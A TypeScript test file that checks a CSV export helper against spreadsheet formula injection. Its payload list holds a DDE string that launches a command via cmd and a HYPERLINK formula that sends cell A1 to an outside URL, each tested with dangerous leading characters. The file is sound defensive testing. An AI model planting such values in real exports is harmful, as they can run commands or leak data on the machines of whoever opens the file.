import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, csvLine } from '../../../shared/exports/csv.ts';

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', ' =', '\u00a0=', '\t@', '＝', '＋', '－', '＠'];
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.com?"&A1,"x")',
  'SUM(1,1)*cmd',
  '1+1',
  '"";x',
];

describe('a cell of a CSV', () => {
  test.each(BEGINNINGS)('that begins with %j runs nothing', (beginning) => {
    for (const payload of PAYLOADS) {
      const cell = csvCell(beginning + payload);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(parse(cell)).toEqual([[`'${beginning}${payload}`]]);
    }
  });

  test('that is a number stays one, and what is absent is empty', () => {
    expect(csvLine([-5, 0.5, true, undefined, null, ''])).toBe('"-5","0.5","true","","",""\r\n');
  });

  test('law: any text is read back by another parser, at most with an apostrophe before it', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
        const [row = []] = parse(csvLine(cells), { record_delimiter: '\r\n' }) as unknown as string[][];
        expect(row.map((cell, index) => (cell === cells[index] ? cell : cell.slice(1)))).toEqual(cells);
      }),
    );
  });
});
